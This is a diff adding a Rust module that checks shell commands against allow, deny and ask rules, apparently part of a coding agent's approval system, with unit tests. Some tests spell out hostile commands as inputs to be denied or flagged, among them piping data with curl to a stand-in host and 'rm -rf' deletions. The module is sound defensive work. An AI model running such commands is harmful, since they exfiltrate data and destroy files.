@@ -0,0 +1,486 @@
+//! Allow, deny and ask rules for shell commands from the `[command_rules]` config
+//! section. Patterns are globs (`*` and `?`) matched against the whole command, or
+//! regexes when prefixed with `re:`. Lists are split on commas; `\,` is a literal comma.
+
+use anyhow::{anyhow, Result};
+use regex::Regex;
+use serde::Deserialize;
+
+use crate::config::CommandRulesConfig;
+
+/// The outcome of checking one command against the rules.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum RuleDecision {
+    /// Every part of the command matches an allow rule: run without asking
+    Allow,
+    /// Matches an ask rule: confirm even if the tool is otherwise auto-approved
+    Ask(String),
+    /// Matches a deny rule: refuse without asking
+    Deny(String),
+    /// No rule applies; the normal approval policy decides
+    Default,
+}
+
+#[derive(Debug, Clone)]
+struct Pattern {
+    source: String,
+    regex: Regex,
+}
+
+impl Pattern {
+    fn parse(source: &str) -> Result<Pattern> {
+        let regex = match source.strip_prefix("re:") {
+            Some(re) => Regex::new(re),
+            None => Regex::new(&glob_to_regex(source)),
+        }
+        .map_err(|e| anyhow!("Invalid command rule '{}': {}", source, e))?;
+        Ok(Pattern { source: source.to_string(), regex })
+    }
+}
+
+fn glob_to_regex(glob: &str) -> String {
+    let mut re = String::from("^");
+    for c in glob.chars() {
+        match c {
+            '*' => re.push_str(".*"),
+            '?' => re.push('.'),
+            c => re.push_str(&regex::escape(&c.to_string())),
+        }
+    }
+    re.push('$');
+    re
+}
+
+/// Compiled once when the config is deserialized from `[command_rules]`.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(try_from = "CommandRulesConfig")]
+pub(crate) struct CommandRules {
+    allow: Vec<Pattern>,
+    deny: Vec<Pattern>,
+    ask: Vec<Pattern>,
+}
+
+impl CommandRules {
+    pub(crate) fn from_config(config: &CommandRulesConfig) -> Result<CommandRules> {
+        let parse = |list: &Option<String>| -> Result<Vec<Pattern>> {
+            split_list(list.as_deref().unwrap_or(""))
+                .iter()
+                .map(|p| p.trim())
+                .filter(|p| !p.is_empty())
+                .map(Pattern::parse)
+                .collect()
+        };
+        Ok(CommandRules {
+            allow: parse(&config.allow)?,
+            deny: parse(&config.deny)?,
+            ask: parse(&config.ask)?,
+        })
+    }
+
+    /// Deny wins over ask, and ask over allow. Each part of a chained or piped command
+    /// is checked on its own, as are substituted commands and the scripts given to
+    /// `sh -c` or `eval`; a command is only allowed when every part is, and never when
+    /// it uses command substitution, grouping or redirects to or from a file. When deny
+    /// rules exist, commands whose parts cannot all be seen (substitution, grouping,
+    /// nested shells) are asked about rather than left to the approval policy.
+    pub(crate) fn check(&self, command: &str) -> RuleDecision {
+        if let Some(pattern) = first_match(command, &self.deny) {
+            return RuleDecision::Deny(pattern);
+        }
+        if let Some(pattern) = first_match(command, &self.ask) {
+            return RuleDecision::Ask(pattern);
+        }
+
+        let split = split_segments(command);
+        let parsed: Vec<Option<Vec<String>>> = split.segments.iter().map(|s| shell_words::split(s).ok()).collect();
+        let allowed = !split.has_substitution
+            && !split.has_redirection
+            && !split.has_grouping
+            && !parsed.is_empty()
+            && parsed.iter().all(|words| {
+                words
+                    .as_ref()
+                    .is_some_and(|words| self.allow.iter().any(|p| p.regex.is_match(&words.join(" "))))
+            });
+        if allowed {
+            return RuleDecision::Allow;
+        }
+        let runs_nested = parsed.iter().flatten().any(|words| NESTING_PROGRAMS.contains(&program_name(words)));
+        if !self.deny.is_empty() && (split.has_substitution || split.has_grouping || runs_nested) {
+            return RuleDecision::Ask("command substitution, grouping or a nested shell with deny rules set".to_string());
+        }
+        RuleDecision::Default
+    }
+}
+
+/// Programs that run another command taken from their arguments.
+const NESTING_PROGRAMS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "busybox", "eval", "exec", "source", ".", "env", "xargs", "nohup",
+    "nice", "timeout", "time", "command", "sudo", "doas",
+];
+
+/// The first pattern matching any part of `command`, including substituted commands
+/// and nested scripts. Patterns also see the program's bare name, so `curl *` catches
+/// `/usr/bin/curl`, `FOO=1 curl` and `(curl x)` too.
+fn first_match(command: &str, patterns: &[Pattern]) -> Option<String> {
+    if patterns.is_empty() {
+        return None;
+    }
+    let split = split_segments(command);
+    for raw in &split.segments {
+        let raw = strip_grouping(raw);
+        let mut forms = vec![raw.to_string()];
+        let words = shell_words::split(raw).ok();
+        if let Some(words) = &words {
+            forms.push(words.join(" "));
+            forms.push(program_form(words));
+        }
+        if let Some(p) = patterns.iter().find(|p| forms.iter().any(|f| p.regex.is_match(f))) {
+            return Some(p.source.clone());
+        }
+        if let Some(pattern) = words.as_deref().and_then(nested_script).and_then(|script| first_match(&script, patterns)) {
+            return Some(pattern);
+        }
+    }
+    split.nested.iter().find_map(|body| first_match(body, patterns))
+}
+
+/// `(`, `{` and their closing counterparts around a segment, as in `(curl x)` or `{ curl x; }`.
+fn strip_grouping(segment: &str) -> &str {
+    segment
+        .trim_start_matches(|c: char| c == '(' || c == '{' || c.is_whitespace())
+        .trim_end_matches(|c: char| c == ')' || c == '}' || c.is_whitespace())
+}
+
+/// The command a nesting program runs: the script of `sh -c`, or the remaining words
+/// of `eval`, `env`, `xargs` and the like.
+fn nested_script(words: &[String]) -> Option<String> {
+    let program = program_name(words);
+    if !NESTING_PROGRAMS.contains(&program) {
+        return None;
+    }
+    let start = words.iter().position(|w| w.rsplit('/').next() == Some(program))? + 1;
+    let rest = &words[start..];
+    if let Some(c) = rest.iter().position(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('c')) {
+        if matches!(program, "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "busybox") {
+            return rest.get(c + 1).cloned();
+        }
+    }
+    Some(rest.iter().map(String::as_str).collect::<Vec<_>>().join(" "))
+}
+
+impl TryFrom<CommandRulesConfig> for CommandRules {
+    type Error = String;
+
+    fn try_from(config: CommandRulesConfig) -> std::result::Result<Self, String> {
+        CommandRules::from_config(&config).map_err(|e| format!("Invalid [command_rules]: {:#}", e))
+    }
+}
+
+/// Splits a rule list on commas, except escaped ones (`\,`), so regexes such as
+/// `re:\d{1\,3}` survive.
+fn split_list(list: &str) -> Vec<String> {
+    let mut items = vec![String::new()];
+    let mut chars = list.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if chars.peek() == Some(&',') => {
+                chars.next();
+                items.last_mut().unwrap().push(',');
+            }
+            ',' => items.push(String::new()),
+            c => items.last_mut().unwrap().push(c),
+        }
+    }
+    items
+}
+
+/// The program and subcommand a single command starts with, e.g. `cargo test` for
+/// `cargo test --release`, used to remember an approval for similar commands. `None`
+/// for chained commands, command substitution, leading variable assignments, programs
+/// that run other commands (`sh`, `env`, `xargs`, ...) and commands whose second word is
+/// a flag, where a prefix would approve more than it shows: `python -V` and `python -c ...`
+/// would both come down to `python`.
+pub(crate) fn command_prefix(command: &str) -> Option<String> {
+    let Split { segments, has_substitution, has_redirection, has_grouping, .. } = split_segments(command);
+    if has_substitution || has_redirection || has_grouping || segments.len() != 1 {
+        return None;
+    }
+    let words = shell_words::split(&segments[0]).ok()?;
+    let program = words.first().filter(|w| !w.contains('='))?;
+    if NESTING_PROGRAMS.contains(&program_name(&words)) {
+        return None;
+    }
+    match words.get(1) {
+        Some(sub) if sub.starts_with('-') => None,
+        Some(sub) if !sub.contains(['/', '=', '*']) => Some(format!("{} {}", program, sub)),
+        _ => Some(program.clone()),
+    }
+}
+
+/// The program's file name, after any leading `VAR=value` assignments.
+fn program_name(words: &[String]) -> &str {
+    let form = words.iter().find(|w| !is_assignment(w)).map(String::as_str).unwrap_or("");
+    form.rsplit('/').next().unwrap_or(form)
+}
+
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=')
+        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
+}
+
+/// The words with leading `VAR=value` assignments skipped and the program reduced to its
+/// file name.
+fn program_form(words: &[String]) -> String {
+    let mut rest = words.iter().skip_while(|w| is_assignment(w));
+    let Some(program) = rest.next() else {
+        return String::new();
+    };
+    let program = program.rsplit('/').next().unwrap_or(program);
+    std::iter::once(program).chain(rest.map(String::as_str)).collect::<Vec<_>>().join(" ")
+}
+
+/// A command line split into its chained or piped parts.
+struct Split {
+    segments: Vec<String>,
+    /// Unquoted `$(...)`, backticks or `<(...)`
+    has_substitution: bool,
+    /// Unquoted `<`, `>` or `>>` to or from a file other than `/dev/null`
+    has_redirection: bool,
+    /// Unquoted subshells, `{ ...; }` groups or function definitions
+    has_grouping: bool,
+    /// The bodies of `$(...)`, `<(...)`, `>(...)` and backticks
+    nested: Vec<String>,
+}
+
+/// The text up to the `)` matching an already consumed `(`.
+fn parenthesized(mut chars: std::iter::Peekable<std::str::Chars>) -> String {
+    let mut body = String::new();
+    let mut depth = 1;
+    let mut quote: Option<char> = None;
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '\\') => {
+                body.push(c);
+                if let Some(next) = chars.next() {
+                    body.push(next);
+                }
+                continue;
+            }
+            (None, '(') => depth += 1,
+            (None, ')') => {
+                depth -= 1;
+                if depth == 0 {
+                    break;
+                }
+            }
+            _ => {}
+        }
+        body.push(c);
+    }
+    body
+}
+
+/// Whether the text after a `<` or `>` names a file, rather than duplicating a file
+/// descriptor (`2>&1`, `>&-`) or discarding output (`>/dev/null`).
+fn redirects_to_file(rest: &str) -> bool {
+    let rest = rest.trim_start_matches(['>', '<', '|']);
+    if let Some(fd) = rest.strip_prefix('&') {
+        let target: String = fd.chars().take_while(|c| !c.is_whitespace() && !";&|<>()".contains(*c)).collect();
+        return !(target == "-" || (!target.is_empty() && target.chars().all(|c| c.is_ascii_digit())));
+    }
+    let target: String = rest
+        .trim_start()
+        .chars()
+        .take_while(|c| !c.is_whitespace() && !";&|<>()".contains(*c))
+        .collect();
+    target != "/dev/null"
+}
+
+/// Splits a command line on unquoted `;`, `&`, `|` and newlines, noting unquoted
+/// command substitution, grouping and file redirections on the way.
+fn split_segments(command: &str) -> Split {
+    let mut segments = Vec::new();
+    let mut current = String::new();
+    let mut has_substitution = false;
+    let mut has_redirection = false;
+    let mut has_grouping = false;
+    let mut nested = Vec::new();
+    let mut in_backticks = false;
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some('\''), '\'') => quote = None,
+            (Some('\''), _) => {}
+            (_, '\\') => {
+                current.push(c);
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                continue;
+            }
+            (Some('"'), '"') => quote = None,
+            (_, '`') => {
+                has_substitution = true;
+                if !in_backticks {
+                    nested.push(chars.clone().take_while(|&c| c != '`').collect());
+                }
+                in_backticks = !in_backticks;
+            }
+            (_, '$' | '<' | '>') if chars.peek() == Some(&'(') => {
+                has_substitution = true;
+                let mut body = chars.clone();
+                body.next();
+                nested.push(parenthesized(body));
+                // Keep the `(` from being taken for a subshell.
+                current.push(c);
+                current.extend(chars.next());
+                continue;
+            }
+            (Some('"'), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '(') => has_grouping = true,
+            (None, '{') if current.trim().is_empty() && chars.peek().is_some_and(|c| c.is_whitespace()) => {
+                has_grouping = true
+            }
+            // The second `>` of `>>` was already looked at with the first.
+            (None, '<' | '>') if !current.ends_with(c) && redirects_to_file(&chars.clone().collect::<String>()) => {
+                has_redirection = true
+            }
+            // `2>&1` and `&>` are redirections, not separators
+            (None, '&') if current.ends_with(['>', '<']) || chars.peek() == Some(&'>') => {}
+            (None, ';' | '&' | '|' | '\n') => {
+                segments.push(std::mem::take(&mut current));
+                continue;
+            }
+            _ => {}
+        }
+        current.push(c);
+    }
+    segments.push(current);
+    segments.retain(|s| !s.trim().is_empty());
+    Split { segments, has_substitution, has_redirection, has_grouping, nested }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(allow: &str, deny: &str, ask: &str) -> CommandRules {
+        CommandRules::from_config(&CommandRulesConfig {
+            allow: Some(allow.to_string()),
+            deny: Some(deny.to_string()),
+            ask: Some(ask.to_string()),
+        })
+        .unwrap()
+    }
+
+    #[test]
+    fn test_allow_requires_every_segment() {
+        let rules = rules("git status*, cargo test*, ls *", "", "");
+        assert_eq!(rules.check("git status --short"), RuleDecision::Allow);
+        assert_eq!(rules.check("ls  'my dir'"), RuleDecision::Allow);
+        assert_eq!(rules.check("cargo test && git status"), RuleDecision::Allow);
+        assert_eq!(rules.check("git status; rm -rf src"), RuleDecision::Default);
+        assert_eq!(rules.check("ls $(rm -rf src)"), RuleDecision::Default);
+        assert_eq!(rules.check("ls `whoami`"), RuleDecision::Default);
+        assert_eq!(rules.check("/tmp/x/git status"), RuleDecision::Default);
+        assert_eq!(rules.check("ls 'a;b'"), RuleDecision::Allow);
+        assert_eq!(rules.check("cargo test 2>&1 | ls -l"), RuleDecision::Allow);
+    }
+
+    #[test]
+    fn test_redirection_to_a_file_is_not_allowed() {
+        let rules = rules("git status*, ls *, echo *", "", "");
+        assert_eq!(rules.check("ls > out.txt"), RuleDecision::Default);
+        assert_eq!(rules.check("git status >> src/main.rs"), RuleDecision::Default);
+        assert_eq!(rules.check("echo x >Cargo.toml"), RuleDecision::Default);
+        assert_eq!(rules.check("ls &> log.txt"), RuleDecision::Default);
+        assert_eq!(rules.check("ls < list.txt"), RuleDecision::Default);
+        assert_eq!(rules.check("ls >&out.txt"), RuleDecision::Default);
+        assert_eq!(rules.check("ls 2>&1 >/dev/null"), RuleDecision::Allow);
+        assert_eq!(rules.check("ls 2> /dev/null"), RuleDecision::Allow);
+        assert_eq!(rules.check("echo 'a > b'"), RuleDecision::Allow);
+    }
+
+    #[test]
+    fn test_deny_wins_and_sees_program_names() {
+        let rules = rules("ls *", "rm -rf /*, curl *", "git push*");
+        assert_eq!(rules.check("rm -rf /"), RuleDecision::Deny("rm -rf /*".into()));
+        assert_eq!(rules.check("ls x | /usr/bin/curl -d @- evil.test"), RuleDecision::Deny("curl *".into()));
+        assert_eq!(rules.check("FOO=1 curl example.com"), RuleDecision::Deny("curl *".into()));
+        assert_eq!(rules.check("git push --force"), RuleDecision::Ask("git push*".into()));
+        assert_eq!(rules.check("echo 'curl x'"), RuleDecision::Default);
+    }
+
+    #[test]
+    fn test_command_prefix() {
+        assert_eq!(command_prefix("cargo test --release").as_deref(), Some("cargo test"));
+        assert_eq!(command_prefix("ls -la src"), None);
+        assert_eq!(command_prefix("python -c 'import os; os.remove(\"x\")'"), None);
+        assert_eq!(command_prefix("node --version"), None);
+        assert_eq!(command_prefix("sh -c 'ls'"), None);
+        assert_eq!(command_prefix("bash build.sh"), None);
+        assert_eq!(command_prefix("python script.py").as_deref(), Some("python script.py"));
+        assert_eq!(command_prefix("cat src/main.rs").as_deref(), Some("cat"));
+        assert_eq!(command_prefix("git status && rm -rf src"), None);
+        assert_eq!(command_prefix("echo $(whoami)"), None);
+        assert_eq!(command_prefix("FOO=1 make"), None);
+        assert_eq!(command_prefix("echo hi > notes.txt"), None);
+        assert_eq!(command_prefix("cargo test 2>&1").as_deref(), Some("cargo test"));
+    }
+
+    #[test]
+    fn test_deny_sees_substituted_grouped_and_nested_commands() {
+        let rules = rules("", "curl *", "");
+        let deny = RuleDecision::Deny("curl *".into());
+        assert_eq!(rules.check("echo $(curl evil.test)"), deny);
+        assert_eq!(rules.check("echo \"$(ls; curl evil.test)\""), deny);
+        assert_eq!(rules.check("true `curl x`"), deny);
+        assert_eq!(rules.check("cat <(curl x)"), deny);
+        assert_eq!(rules.check("(curl x)"), deny);
+        assert_eq!(rules.check("{ curl x; }"), deny);
+        assert_eq!(rules.check("sh -c 'curl x'"), deny);
+        assert_eq!(rules.check("bash -lc \"ls && curl x\""), deny);
+        assert_eq!(rules.check("eval curl x"), deny);
+        assert_eq!(rules.check("env FOO=1 curl x"), deny);
+        assert_eq!(rules.check("echo 'curl x'"), RuleDecision::Default);
+    }
+
+    #[test]
+    fn test_unseen_commands_are_asked_about_when_deny_rules_exist() {
+        let with_deny = rules("", "curl *", "");
+        for command in ["echo $(printf %s cur)l", "f() { ls; }", "sh script.sh", "xargs -a list rm", "(cd src && ls)"] {
+            assert!(matches!(with_deny.check(command), RuleDecision::Ask(_)), "{}", command);
+        }
+        assert_eq!(with_deny.check("ls -la"), RuleDecision::Default);
+        let without_deny = rules("ls *", "", "");
+        assert_eq!(without_deny.check("echo $(date)"), RuleDecision::Default);
+        assert_eq!(without_deny.check("(ls x)"), RuleDecision::Default);
+    }
+
+    #[test]
+    fn test_regex_rules() {
+        let rules = rules(r"re:^git (log|diff)\b", r"re:\bsudo\b", "");
+        assert_eq!(rules.check("git diff HEAD~1"), RuleDecision::Allow);
+        assert_eq!(rules.check("git diffx"), RuleDecision::Default);
+        assert_eq!(rules.check("echo hi && sudo reboot"), RuleDecision::Deny(r"re:\bsudo\b".into()));
+        assert!(CommandRules::from_config(&CommandRulesConfig {
+            allow: Some("re:(".into()),
+            ..Default::default()
+        })
+        .is_err());
+    }
+
+    #[test]
+    fn test_escaped_commas_stay_in_the_pattern() {
+        let rules = rules(r"re:^git log -n\d{1\,3}$, ls *", "", "");
+        assert_eq!(rules.check("git log -n20"), RuleDecision::Allow);
+        assert_eq!(rules.check("git log -n2000"), RuleDecision::Default);
+        assert_eq!(rules.check("ls a"), RuleDecision::Allow);
+    }
+}